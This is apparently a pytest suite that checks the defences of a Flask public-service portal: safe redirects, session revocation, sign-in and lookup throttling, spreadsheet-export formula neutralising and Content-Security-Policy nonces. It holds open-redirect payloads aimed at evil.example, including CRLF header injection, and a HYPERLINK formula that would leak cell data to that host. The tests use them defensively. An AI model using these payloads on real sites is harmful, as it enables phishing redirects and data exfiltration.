"""Sign-in and abuse (issue 14, item 5): the payloads that once led off the site, outlived a
sign-out, locked officers out, refused the right lookup key, flooded the portal, turned exported
names into formulas and left the back office without a Content-Security-Policy. Each test drives
the real app through the Flask test client, from the addresses an attacker or a citizen would use."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from urllib.parse import urlsplit

import pytest

from tests.conftest import Api, _close_pool, _make_app, make_user
from tests.web.pages import FORMS, csrf, folder_zip, sign_in, submit_application, submitted_code_and_key

STRANGER, OFFICE, CARRIER_NAT = "203.0.113.9", "198.51.100.7", "100.64.0.1"
REDIRECT_PAYLOADS = [
    "/%09/evil.example/", "/\t/evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
    "https://evil.example/", "javascript:alert(1)", "/%0d%0aLocation:%20https://evil.example/",
    "/\r\n/evil.example/", "/%5c%5cevil.example/", " //evil.example/",
]


def _from(address):
    return {"environ_base": {"REMOTE_ADDR": address}}


def _officer(app, username="canbo1", password="mật-khẩu-đúng", roles=("officer",)):
    with app.app_context():
        user, _ = make_user(username, roles, password=password)
    return user


def _sign_in_from(client, address, username, password):
    page = client.get("/desk/login", **_from(address))
    return client.post("/desk/login", data={"csrf_token": csrf(page), "username": username, "password": password},
                       **_from(address))


def _stays_on_site(location):
    parts = urlsplit(location)
    return (not parts.scheme and not parts.netloc and location.startswith("/") and not location.startswith("//")
            and not any(ch in location for ch in "\\\t\r\n\x00"))


# --- safe redirects -------------------------------------------------------------------------------


@pytest.mark.parametrize("target", REDIRECT_PAYLOADS)
def test_signing_in_never_follows_a_next_address_off_the_site(sqlite_app, target):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    page = client.get("/desk/login")
    reply = client.post("/desk/login", query_string={"next": target},
                        data={"csrf_token": csrf(page), "username": "canbo1", "password": "mật-khẩu-đúng"})
    assert reply.status_code == 303 and reply.headers["Location"] == "/desk/", reply.headers.get("Location")


def test_the_encoded_tab_payload_from_the_issue_lands_on_the_worklist(sqlite_app):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    page = client.get("/desk/login")
    reply = client.post("/desk/login?next=/%09/evil.example/",
                        data={"csrf_token": csrf(page), "username": "canbo1", "password": "mật-khẩu-đúng"})
    assert reply.headers["Location"] == "/desk/"


def test_a_local_next_address_is_still_followed_after_signing_in(sqlite_app):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    page = client.get("/desk/login")
    reply = client.post("/desk/login?next=/desk/ledger%3Ffrom%3D2026-01-01",
                        data={"csrf_token": csrf(page), "username": "canbo1", "password": "mật-khẩu-đúng"})
    assert reply.headers["Location"] == "/desk/ledger?from=2026-01-01"


@pytest.mark.parametrize("target", REDIRECT_PAYLOADS)
def test_the_desks_back_field_never_leads_off_the_site(sqlite_app, target):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    assert sign_in(client, "canbo1", "mật-khẩu-đúng").status_code == 303
    reply = client.post("/desk/dossiers/NO-SUCH-CODE/apology", data={"back": target})
    assert reply.status_code == 303 and _stays_on_site(reply.headers["Location"]), reply.headers["Location"]
    assert reply.headers["Location"] == "/desk/"


@pytest.mark.parametrize("target", REDIRECT_PAYLOADS)
def test_choosing_a_language_never_leads_off_the_site(sqlite_app, target):
    reply = sqlite_app.test_client().get("/lang/en", query_string={"next": target})
    assert reply.status_code == 302 and reply.headers["Location"] == "/", reply.headers["Location"]


def test_a_return_address_holding_nul_is_refused_before_anything_redirects(sqlite_app):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    page = client.get("/desk/login")
    signing_in = client.post("/desk/login", query_string={"next": "/desk/\x00"},
                             data={"csrf_token": csrf(page), "username": "canbo1", "password": "mật-khẩu-đúng"})
    assert sign_in(client, "canbo1", "mật-khẩu-đúng").status_code == 303
    back = client.post("/desk/dossiers/NO-SUCH-CODE/apology", data={"back": "/desk/\x00"})
    language = client.get("/lang/en", query_string={"next": "/desk/\x00"})
    for reply in (signing_in, back, language):
        assert reply.status_code == 422 and "Location" not in reply.headers


def test_choosing_a_language_goes_back_to_the_page_it_was_chosen_on(sqlite_app):
    reply = sqlite_app.test_client().get("/lang/en", query_string={"next": "/track?code=A%20B"})
    assert reply.headers["Location"] == "/track?code=A%20B"


# --- server-side sessions -------------------------------------------------------------------------


def _copy(client, app):
    """A second browser holding a copy of the first one's session cookie."""
    cookie = client.get_cookie("session")
    thief = app.test_client()
    thief.set_cookie("session", cookie.value)
    return thief


def test_a_session_cookie_copied_before_signing_out_is_refused_after_it(app):
    _officer(app)
    client = app.test_client()
    sign_in(client, "canbo1", "mật-khẩu-đúng")
    thief = _copy(client, app)
    assert thief.get("/desk/").status_code == 200  # the copy works while the officer is signed in
    worklist = client.get("/desk/")
    assert client.post("/desk/logout", data={"csrf_token": csrf(worklist)}).status_code == 303
    refused = thief.get("/desk/")
    assert refused.status_code == 302 and "/desk/login" in refused.headers["Location"]


def test_the_back_office_refuses_a_session_cookie_copied_before_signing_out(app):
    _officer(app, "quantri", roles=("admin",))
    client = app.test_client()
    sign_in(client, "quantri", "mật-khẩu-đúng")
    thief = _copy(client, app)
    assert thief.get("/admin/").status_code == 200
    client.post("/desk/logout", data={"csrf_token": csrf(client.get("/desk/"))})
    refused = thief.get("/admin/user/")
    assert refused.status_code == 302 and "/desk/login" in refused.headers["Location"]


def test_a_new_password_signs_out_every_browser_of_that_user(app):
    from onestop.models import AuditEvent
    from onestop.services.users import authenticate

    officer = _officer(app)
    admin = app.test_client()
    _officer(app, "quantri", roles=("admin",))
    sign_in(admin, "quantri", "mật-khẩu-đúng")
    counter, home = app.test_client(), app.test_client()
    sign_in(counter, "canbo1", "mật-khẩu-đúng")
    sign_in(home, "canbo1", "mật-khẩu-đúng")
    page = admin.get(f"/admin/user/edit/?id={officer.id}")
    saved = admin.post(f"/admin/user/edit/?id={officer.id}", data={
        "csrf_token": csrf(page), "officer": "y", "active": "y", "new_password": "một-mật-khẩu-mới-dài"})
    assert saved.status_code == 302
    for browser in (counter, home):
        assert browser.get("/desk/").status_code == 302
    assert admin.get("/admin/").status_code == 200  # the administrator's own session is untouched
    with app.app_context():
        assert authenticate("canbo1", "một-mật-khẩu-mới-dài") is not None
        assert authenticate("canbo1", "mật-khẩu-đúng") is None
        assert AuditEvent.select().where(AuditEvent.action == "user.password_changed").count() == 1


def _change_password(client, current, new, repeat=None):
    page = client.get("/desk/password")
    return client.post("/desk/password", data={"csrf_token": csrf(page), "current": current, "new": new,
                                               "repeat": new if repeat is None else repeat})


def test_an_officer_changing_their_password_signs_out_every_browser_of_theirs(sqlite_app):
    _officer(sqlite_app)
    counter, home = sqlite_app.test_client(), sqlite_app.test_client()
    sign_in(counter, "canbo1", "mật-khẩu-đúng")
    sign_in(home, "canbo1", "mật-khẩu-đúng")
    assert _change_password(counter, "mật-khẩu-đúng", "mới-mới-mới-mới", "khác-khác-khác").status_code == 422
    assert _change_password(counter, "mật-khẩu-đúng", "ngắn").status_code == 422
    changed = _change_password(counter, "mật-khẩu-đúng", "mật-khẩu-mới-của-tôi")
    assert changed.status_code == 303 and changed.headers["Location"] == "/desk/login"
    assert counter.get("/desk/").status_code == 302 and home.get("/desk/").status_code == 302
    assert sign_in(counter, "canbo1", "mật-khẩu-đúng").status_code == 401
    assert sign_in(counter, "canbo1", "mật-khẩu-mới-của-tôi").status_code == 303


def test_a_wrong_current_password_is_throttled_like_a_sign_in(sqlite_app):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    sign_in(client, "canbo1", "mật-khẩu-đúng")
    answers = [_change_password(client, f"đoán-{i}", "mật-khẩu-mới-của-tôi").status_code for i in range(6)]
    assert answers == [401] * 5 + [429]
    assert client.get("/desk/").status_code == 200  # still signed in, password unchanged


def test_an_officer_idle_longer_than_the_timeout_signs_in_again(app):
    from onestop.models import SignInSession, utcnow

    _officer(app)
    client = app.test_client()
    sign_in(client, "canbo1", "mật-khẩu-đúng")
    assert client.get("/desk/").status_code == 200
    with app.app_context():
        SignInSession.update(last_seen_at=utcnow() - timedelta(minutes=29)).execute()
    assert client.get("/desk/").status_code == 200  # 29 minutes away: still signed in, and the clock restarts
    with app.app_context():
        SignInSession.update(last_seen_at=utcnow() - timedelta(minutes=31)).execute()
    refused = client.get("/desk/")
    assert refused.status_code == 302 and "/desk/login" in refused.headers["Location"]


def test_no_session_outlives_its_hours_however_busy(sqlite_app):
    from onestop.models import SignInSession, utcnow

    _officer(sqlite_app)
    client = sqlite_app.test_client()
    sign_in(client, "canbo1", "mật-khẩu-đúng")
    with sqlite_app.app_context():
        SignInSession.update(created_at=utcnow() - timedelta(hours=12, minutes=1)).execute()
    assert client.get("/desk/").status_code == 302
    with sqlite_app.app_context():
        assert SignInSession.select().count() == 0  # an ended session is deleted, not kept


def test_the_idle_timeout_and_the_session_hours_are_settings(monkeypatch):
    from onestop.config import load_settings

    settings = load_settings(secret_key="x")
    assert (settings.idle_minutes, settings.session_hours) == (30, 12)
    monkeypatch.setenv("ONESTOP_IDLE_MINUTES", "10")
    monkeypatch.setenv("ONESTOP_SESSION_HOURS", "8")
    settings = load_settings(secret_key="x")
    assert (settings.idle_minutes, settings.session_hours) == (10, 8)


# --- failed sign-ins ------------------------------------------------------------------------------


def test_a_stranger_guessing_passwords_is_throttled_and_cannot_lock_the_officer_out(sqlite_app):
    _officer(sqlite_app)
    counter = sqlite_app.test_client()
    assert _sign_in_from(counter, OFFICE, "canbo1", "mật-khẩu-đúng").status_code == 303  # a known browser
    counter.post("/desk/logout", data={"csrf_token": csrf(counter.get("/desk/", **_from(OFFICE)))}, **_from(OFFICE))
    stranger = sqlite_app.test_client()
    answers = [_sign_in_from(stranger, STRANGER, "canbo1", f"đoán-{i}") for i in range(8)]
    assert [a.status_code for a in answers[:5]] == [401] * 5
    assert answers[-1].status_code == 429 and int(answers[-1].headers["Retry-After"]) > 0
    assert _sign_in_from(stranger, STRANGER, "canbo1", "mật-khẩu-đúng").status_code == 429  # not even checked
    assert _sign_in_from(counter, OFFICE, "canbo1", "mật-khẩu-đúng").status_code == 303


def test_wrong_passwords_from_one_address_leave_the_officer_free_to_sign_in_from_another(sqlite_app):
    _officer(sqlite_app)
    stranger = sqlite_app.test_client()
    for i in range(6):
        _sign_in_from(stranger, STRANGER, "canbo1", f"đoán-{i}")
    assert _sign_in_from(sqlite_app.test_client(), OFFICE, "canbo1", "mật-khẩu-đúng").status_code == 303


def test_many_strangers_slow_an_account_but_never_block_it_from_a_browser_it_used_before(sqlite_app):
    _officer(sqlite_app)
    counter = sqlite_app.test_client()
    assert _sign_in_from(counter, OFFICE, "canbo1", "mật-khẩu-đúng").status_code == 303
    counter.post("/desk/logout", data={"csrf_token": csrf(counter.get("/desk/", **_from(OFFICE)))}, **_from(OFFICE))
    for n in range(30):  # a botnet: four guesses from each of thirty addresses
        bot = sqlite_app.test_client()
        for i in range(4):
            _sign_in_from(bot, f"192.0.2.{n}", "canbo1", f"đoán-{i}")
    newcomer = _sign_in_from(sqlite_app.test_client(), "192.0.2.200", "canbo1", "mật-khẩu-đúng")
    assert newcomer.status_code == 429 and int(newcomer.headers["Retry-After"]) > 0
    assert _sign_in_from(counter, OFFICE, "canbo1", "mật-khẩu-đúng").status_code == 303


def test_an_ipv6_subscriber_counts_as_one_address_whichever_of_its_addresses_it_uses(sqlite_app):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    for i in range(5):
        assert _sign_in_from(client, f"2001:db8:1:2::{i + 1}", "canbo1", f"đoán-{i}").status_code == 401
    assert _sign_in_from(client, "2001:db8:1:2:ffff::9", "canbo1", "đoán").status_code == 429
    assert _sign_in_from(client, "2001:db8:1:3::1", "canbo1", "mật-khẩu-đúng").status_code == 303


def test_one_address_spraying_many_accounts_is_throttled(sqlite_app):
    sprayer = sqlite_app.test_client()
    answers = [_sign_in_from(sprayer, STRANGER, f"nguoi{i}", "123456").status_code for i in range(40)]
    assert answers[0] == 401 and answers[-1] == 429


def test_the_throttled_sign_in_page_says_so_in_english_when_asked(sqlite_app):
    _officer(sqlite_app)
    client = sqlite_app.test_client()
    for i in range(6):
        reply = _sign_in_from(client, STRANGER, "canbo1", f"đoán-{i}")
    client.set_cookie("lang", "en")  # the visitor's choice of language (Accept-Language is not used)
    page = client.post("/desk/login", **_from(STRANGER),
                       data={"csrf_token": csrf(client.get("/desk/login", **_from(STRANGER))), "username": "canbo1",
                             "password": "x"})
    assert reply.status_code == 429 and page.status_code == 429
    assert "Too many failed sign-ins" in page.get_data(as_text=True)


# --- lookup keys ----------------------------------------------------------------------------------


@pytest.fixture
def portal(sqlite_admin_api, sqlite_app):
    assert sqlite_admin_api.upload([folder_zip(FORMS / "spiffarena")]).status_code == 201
    return sqlite_app.test_client()


def test_wrong_keys_for_a_dossier_never_refuse_its_right_key_its_qr_link_or_other_dossiers(portal):
    code, key = submitted_code_and_key(portal)
    other, other_key = submitted_code_and_key(portal)
    answers = [portal.post("/track", data={"code": code, "key": f"WRONG-{i}"}, **_from(CARRIER_NAT)) for i in range(25)]
    assert [a.status_code for a in answers[:20]] == [404] * 20
    assert answers[-1].status_code == 429 and int(answers[-1].headers["Retry-After"]) > 0
    assert portal.post("/track", data={"code": code, "key": key}, **_from(CARRIER_NAT)).status_code == 200
    assert portal.get(f"/track/{code}?k={key}", **_from(CARRIER_NAT)).status_code == 200
    assert portal.post("/track", data={"code": other, "key": other_key}, **_from(CARRIER_NAT)).status_code == 200
    assert portal.post("/track", data={"code": other, "key": "WRONG"}, **_from(CARRIER_NAT)).status_code == 404


def test_many_citizens_behind_one_carrier_address_look_up_their_dossiers_freely(portal):
    code, key = submitted_code_and_key(portal)
    answers = {portal.get(f"/track/{code}?k={key}", **_from(CARRIER_NAT)).status_code for _ in range(45)}
    assert answers == {200}


def test_the_rating_api_counts_wrong_keys_like_the_tracking_page(portal):
    code, key = submitted_code_and_key(portal)
    answers = [portal.post(f"/api/v1/dossiers/{code}/rating", json={"key": f"K{i}", "level": "hai_long"})
               for i in range(22)]
    assert [a.status_code for a in answers[:20]] == [404] * 20
    assert answers[-1].status_code == 429 and int(answers[-1].headers["Retry-After"]) > 0
    assert "Traceback" not in answers[-1].get_data(as_text=True)
    # the same dossier's page refuses wrong keys too now: one count for both doors
    assert portal.post("/track", data={"code": code, "key": "WRONG"}).status_code == 429
    right = portal.post(f"/api/v1/dossiers/{code}/rating", json={"key": key, "level": "hai_long"})
    assert right.status_code == 409  # not resolved yet: the key was checked and accepted, not refused


# --- anonymous submissions ------------------------------------------------------------------------


@pytest.fixture
def limited(sqlite_url, tmp_path, engine):
    app = _make_app(sqlite_url, tmp_path, engine, submissions_per_address="3 per hour",
                    submissions_per_procedure="5 per hour")
    with app.app_context():
        _, token = make_user("admin1", ("admin",))
    assert Api(app.test_client(), token).upload([folder_zip(FORMS / "spiffarena")]).status_code == 201
    yield app
    _close_pool()


def test_anonymous_submissions_are_throttled_per_address_with_a_clear_page(limited):
    client = limited.test_client()
    answers = [submit_application(client) for _ in range(4)]
    assert [a.status_code for a in answers[:3]] == [303] * 3
    refused = answers[-1]
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert "Traceback" not in refused.get_data(as_text=True) and "<form" not in refused.get_data(as_text=True)
    client.set_cookie("lang", "en")
    english = client.post("/procedures/household_business/submit")
    assert english.status_code == 429 and "Too many applications" in english.get_data(as_text=True)


def test_anonymous_submissions_are_throttled_per_procedure_whatever_the_address(limited):
    answers = []
    for n in range(6):
        client = limited.test_client()
        client.environ_base["REMOTE_ADDR"] = f"192.0.2.{n}"
        answers.append(submit_application(client).status_code)
    assert answers == [303] * 5 + [429]


def test_the_submission_throttles_are_settings(monkeypatch):
    from onestop.config import load_settings

    monkeypatch.setenv("ONESTOP_SUBMISSIONS_PER_ADDRESS", "7 per hour")
    monkeypatch.setenv("ONESTOP_SUBMISSIONS_PER_PROCEDURE", "70 per hour")
    settings = load_settings(secret_key="x")
    assert (settings.submissions_per_address, settings.submissions_per_procedure) == ("7 per hour", "70 per hour")


# --- exports --------------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'


def _scorecard_with_display_name(app, admin_api, name):
    from tests.web.test_stats import _resolved

    _resolved(admin_api)  # three steps done by admin1
    with app.app_context():
        from onestop.models import User

        User.update(display_name=name).where(User.username == "admin1").execute()
    leader = app.test_client()
    _officer(app, "lanh.dao", roles=("leader", "officer"))
    sign_in(leader, "lanh.dao", "mật-khẩu-đúng")
    return leader


def test_a_display_name_starting_with_equals_is_no_formula_in_the_csv_export(sqlite_app, sqlite_admin_api):
    leader = _scorecard_with_display_name(sqlite_app, sqlite_admin_api, FORMULA)
    lines = list(csv.reader(io.StringIO(leader.get("/desk/scorecard?format=csv").get_data(as_text=True).lstrip("\ufeff"))))
    [row] = [line for line in lines if line[0] == "admin1"]
    assert row[1] == "'" + FORMULA


def test_a_display_name_starting_with_equals_is_no_formula_in_the_xlsx_export(sqlite_app, sqlite_admin_api):
    leader = _scorecard_with_display_name(sqlite_app, sqlite_admin_api, FORMULA)
    book = zipfile.ZipFile(io.BytesIO(leader.get("/desk/scorecard?format=xlsx").data))
    sheets = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
    assert "<f>" not in sheets and "HYPERLINK" not in sheets
    assert "&apos;=HYPERLINK" in book.read("xl/sharedStrings.xml").decode().replace("'", "&apos;")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_is_neutralised_but_numbers_stay_numbers(sqlite_app, lead):
    from onestop.web import exports

    with sqlite_app.test_request_context():
        text = exports.csv_response(["a", "b", "c"], [[lead + "1+1", -5, -2.5]], "x").get_data(as_text=True)
        book = zipfile.ZipFile(io.BytesIO(exports.xlsx_response({"s": (["a", "b", "c"], [[lead + "1+1", -5, -2.5]])},
                                                                "x").data))
    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
    assert row == ["'" + lead + "1+1", "-5", "-2.5"]
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>-5</v>" in sheet and "<v>-2.5</v>" in sheet and "<f>" not in sheet


# --- Content-Security-Policy ----------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/admin/", "/admin/user/", "/admin/user/new/", "/admin/audit/", "/admin/onboard/"])
def test_every_back_office_page_carries_a_content_security_policy_with_nonces(sqlite_app, path):
    _officer(sqlite_app, "quantri", roles=("admin",))
    client = sqlite_app.test_client()
    sign_in(client, "quantri", "mật-khẩu-đúng")
    page = client.get(path)
    assert page.status_code == 200
    policy = page.headers.get("Content-Security-Policy", "")
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy and "frame-ancestors 'none'" in policy
    nonce = re.search(r"script-src 'self' 'nonce-([A-Za-z0-9_-]+)'", policy).group(1)
    text = page.get_data(as_text=True)
    scripts = re.findall(r"<script\b[^>]*>", text)
    assert scripts and all(f'nonce="{nonce}"' in s for s in scripts), scripts
    assert all(f'nonce="{nonce}"' in s for s in re.findall(r"<style\b[^>]*>", text))
    assert not re.search(r"<[a-z]+\b[^>]*\sstyle=", text)  # a style attribute would be refused


def test_the_nonce_is_new_on_every_answer(sqlite_app):
    _officer(sqlite_app, "quantri", roles=("admin",))
    client = sqlite_app.test_client()
    sign_in(client, "quantri", "mật-khẩu-đúng")
    policies = {client.get("/admin/").headers["Content-Security-Policy"] for _ in range(3)}
    assert len(policies) == 3


def test_the_sign_in_page_and_the_portal_keep_their_policy(sqlite_app):
    for path in ("/desk/login", "/", "/track"):
        assert "script-src 'self'" in sqlite_app.test_client().get(path).headers["Content-Security-Policy"]



# --- where the counts live ------------------------------------------------------------------------


def test_limits_counted_in_redis_are_shared_by_every_process():
    from onestop import ratelimit
    from tests.support.redis import redis_url_or_skip

    url = redis_url_or_skip()
    one = ratelimit.Limiter(url)  # one web process's
    limit = ratelimit.Limit("shared", "3 per minute")
    assert all(one.hit(limit, "canbo1", STRANGER) for _ in range(3))
    other = ratelimit.Limiter(url)  # another one's, with its own connection and nothing in memory
    assert other.exceeded(limit, "canbo1", STRANGER) and 0 < other.retry_after(limit, "canbo1", STRANGER) <= 60
    assert not other.exceeded(limit, "canbo1", OFFICE)


def test_a_submission_limit_the_notation_cannot_read_stops_the_start(sqlite_url, tmp_path, engine):
    with pytest.raises(ValueError, match="submissions_per_address"):
        _make_app(sqlite_url, tmp_path, engine, submissions_per_address="twenty an hour")
    _close_pool()


@pytest.mark.parametrize("target", REDIRECT_PAYLOADS)
def test_the_back_offices_return_address_never_leads_off_the_site(sqlite_app, target):
    officer = _officer(sqlite_app)
    _officer(sqlite_app, "quantri", roles=("admin",))
    admin = sqlite_app.test_client()
    sign_in(admin, "quantri", "mật-khẩu-đúng")
    page = admin.get(f"/admin/user/edit/?id={officer.id}")
    saved = admin.post("/admin/user/edit/", query_string={"id": officer.id, "url": target},
                       data={"csrf_token": csrf(page), "officer": "y", "active": "y"})
    assert saved.status_code == 302 and _stays_on_site(saved.headers["Location"]), saved.headers["Location"]
